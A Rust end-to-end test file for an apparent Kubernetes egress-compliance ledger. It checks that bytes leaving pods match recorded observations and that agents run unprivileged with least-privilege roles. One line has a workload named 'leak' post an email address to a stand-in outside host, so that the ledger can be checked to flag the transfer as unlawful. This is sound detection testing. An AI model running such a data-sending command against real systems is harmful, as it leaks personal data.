//! The whole way: what leaves the pods is what the ledger holds, to the byte.

use std::{collections::BTreeMap, fs, path::Path, time::Duration};

use landfall_observation::{Endpoint, Local, decode};
use landfall_tests::{
    cluster,
    story::{Client, PROVIDERS, Story, StoryError},
};

/// IP bytes sent and received, by workload and provider.
type Sums = BTreeMap<(String, &'static str), (u64, u64)>;

#[tokio::test(flavor = "multi_thread")]
#[ignore = "cluster story: make e2e"]
async fn the_ledger_holds_every_byte_that_left_the_pods() {
    let begun = match Story::begin().await {
        Err(StoryError::Cluster(error)) => cluster::or_skip(Err(error)),
        begun => Some(begun.unwrap()),
    };
    let Some((story, providers)) = begun else { return };
    let said = story.test().unwrap();
    assert!(said.contains("Succeeded") && said.contains("the installation can work"), "{said}");
    // Each provider is asked by one workload, so that its counters are those of the workload.
    let clients = [("assistant", "node-eu"), ("messaging", "node-us"), ("leak", "node-us")]
        .map(|(name, node)| Client::start(&story, name, node).unwrap());
    for (client, (_, host, _)) in std::iter::zip(&clients, PROVIDERS) {
        for _ in 0..3 {
            let send =
                "head -c 20000 /dev/zero | curl -sk --retry 20 --retry-delay 1 --retry-all-errors --data-binary @-";
            client.run(&story, &format!("{send} -o /dev/null https://{host}/")).unwrap();
        }
    }
    clients[2]
        .run(&story, "curl -s -d email=jane.roe@example.org -o /dev/null http://collector.stranger.example/")
        .unwrap();

    let expected = || -> Sums {
        let counted = std::iter::zip(&clients, &providers).zip(PROVIDERS);
        counted
            .map(|((client, provider), (name, _, _))| {
                let counts = provider.counts(&story).unwrap();
                ((client.name.clone(), name), (counts.ip_in, counts.ip_out))
            })
            .collect()
    };
    story
        .wait_for("every byte in the ledger", || {
            let (expected, held) = (expected(), held(&story));
            if expected == held {
                Ok(())
            } else {
                Err(format!("the providers counted {expected:?}, the ledger holds {held:?}"))
            }
        })
        .unwrap();
    // The objects say the same, as soon as their figures are written again.
    story
        .wait_for("every byte in the Transfers", || {
            let (expected, shown) = (expected(), shown(&story)?);
            if expected == shown {
                Ok(())
            } else {
                Err(format!("the providers counted {expected:?}, the Transfers say {shown:?}"))
            }
        })
        .unwrap();
    for provider in &providers {
        let counts = provider.counts(&story).unwrap();
        assert!(counts.body_in >= 60_000 && counts.ip_in > counts.body_in, "{counts:?}");
        eprintln!("{}: {counts:?}", provider.name);
    }
    judged_and_sealed(&story);
    agents_are_not_root(&story);
    nothing_was_forbidden(&story);
}

/// What was judged says what the law says, and the sums of the judgments are those of the observations.
fn judged_and_sealed(story: &Story) {
    let outcomes = story
        .wait_for("judgments", || {
            let shown = story.ledger("show", &["-o", "json"]).map_err(|error| error.to_string())?;
            let edges = shown.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
            let outcome = |edge: &serde_json::Value| {
                let text = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_owned();
                (text(&edge["recipient"]), text(&edge["verdict"]["outcome"]))
            };
            let outcomes: BTreeMap<_, _> = edges.map(|edge| outcome(&edge)).collect();
            if outcomes.len() >= PROVIDERS.len() { Ok(outcomes) } else { Err(shown) }
        })
        .unwrap();
    eprintln!("{outcomes:?}");
    assert_eq!(outcomes["unregistered:stranger.example"], "Unlawful");
    assert!(outcomes.contains_key("openai") && outcomes.contains_key("twilio"), "{outcomes:?}");

    story
        .wait_for("a sealed segment", || {
            let verified = story.ledger("verify", &["-o", "json"]);
            let verified = verified.map_err(|error| error.to_string())?;
            if verified.contains("\"segments\":0") { Err(verified) } else { Ok(()) }
        })
        .unwrap();
}

/// An agent has one capability, from its file, and is nobody on the node.
fn agents_are_not_root(story: &Story) {
    let is_agent = |process: &Path| {
        let group = fs::read_to_string(process.join("cgroup")).unwrap_or_default();
        fs::read_to_string(process.join("comm")).is_ok_and(|name| name == "landfall-agent\n")
            && group.contains(story.cluster.cgroup())
    };
    let processes = fs::read_dir("/proc").unwrap().map(|entry| entry.unwrap().path());
    let agents: Vec<_> = processes.filter(|process| is_agent(process)).collect();
    assert_eq!(agents.len(), 2, "{agents:?}");
    for agent in agents {
        let status = fs::read_to_string(agent.join("status")).unwrap();
        let shown: BTreeMap<&str, &str> = status.lines().filter_map(|line| line.split_once(":\t")).collect();
        let fields = ["Uid", "Gid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs"];
        let found: Vec<_> = fields.map(|field| format!("{field} {}", shown[field].replace('\t', " "))).into();
        eprintln!("{}: {}", agent.display(), found.join(", "));
        let (user, none, raw) = ("65532 65532 65532 65532", "0000000000000000", "0000000000002000");
        let values = [user, user, none, raw, raw, raw, none, "1"];
        let expected: Vec<_> =
            std::iter::zip(fields, values).map(|(field, value)| format!("{field} {value}")).collect();
        assert_eq!(found, expected);
    }
}

/// Everything that the system asks of the API server it may ask, and no rule of it is a wildcard.
fn nothing_was_forbidden(story: &Story) {
    std::thread::sleep(Duration::from_secs(1));
    let entries = story.cluster.audit().unwrap();
    let ours = |user: &str| user.starts_with("system:serviceaccount:landfall-system:landfall-");
    let asked = entries.iter().filter(|entry| ours(&entry.user)).count();
    assert!(asked > 20, "{asked}");
    let forbidden: Vec<_> = entries.iter().filter(|entry| ours(&entry.user) && entry.is_forbidden()).collect();
    assert!(forbidden.is_empty(), "{forbidden:?}");
    let roles = story.cluster.kubectl(&["get", "clusterroles,roles", "-A", "-o", "json"], "").unwrap();
    let roles: serde_json::Value = serde_json::from_str(&roles).unwrap();
    let is_ours = |role: &&serde_json::Value| role["metadata"]["name"].as_str().unwrap().starts_with("landfall-");
    let ours: Vec<_> = roles["items"].as_array().unwrap().iter().filter(is_ours).collect();
    assert_eq!(ours.len(), 10);
    assert!(ours.iter().all(|role| !role["rules"].to_string().contains("\"*\"")), "{ours:?}");
}

/// The volumes of the Transfers to providers.
fn shown(story: &Story) -> Result<Sums, String> {
    let listed = story.cluster.kubectl(&["get", "transfers", "-n", "crm", "-o", "json"], "");
    let listed: serde_json::Value =
        serde_json::from_str(&listed.map_err(|error| error.to_string())?).map_err(|error| error.to_string())?;
    let mut sums = Sums::new();
    for transfer in listed["items"].as_array().into_iter().flatten() {
        let recipient = transfer["spec"]["recipient"].as_str().unwrap_or_default();
        let provider = PROVIDERS.iter().find(|(name, _, _)| recipient.contains(name));
        if let Some((provider, _, _)) = provider {
            let workload = transfer["spec"]["exporter"]["workload"]["name"].as_str().unwrap_or_default().to_owned();
            let volume = &transfer["status"]["volume"];
            let sum = sums.entry((workload, *provider)).or_default();
            sum.0 += volume["bytesSent"].as_u64().unwrap_or_default();
            sum.1 += volume["bytesReceived"].as_u64().unwrap_or_default();
        }
    }
    Ok(sums)
}

/// The sums of the observations in the ledger.
fn held(story: &Story) -> Sums {
    let mut sums = Sums::new();
    let Ok(lines) = story.ledger("export", &["--kind", "observation", "--body"]) else { return sums };
    for line in lines.lines() {
        let observation = decode(line).unwrap();
        let (Local::Workload(workload), Endpoint::Address { address, .. }) = (&observation.local, &observation.remote)
        else {
            continue;
        };
        let provider = PROVIDERS.iter().find(|(_, _, at)| address.contains(&std::net::IpAddr::V4(*at)));
        if let Some((provider, _, _)) = provider {
            assert_eq!(observation.coverage.frames_dropped, 0);
            let sum = sums.entry((workload.name.clone(), *provider)).or_default();
            sum.0 += observation.sent.bytes;
            sum.1 += observation.received.bytes;
        }
    }
    sums
}
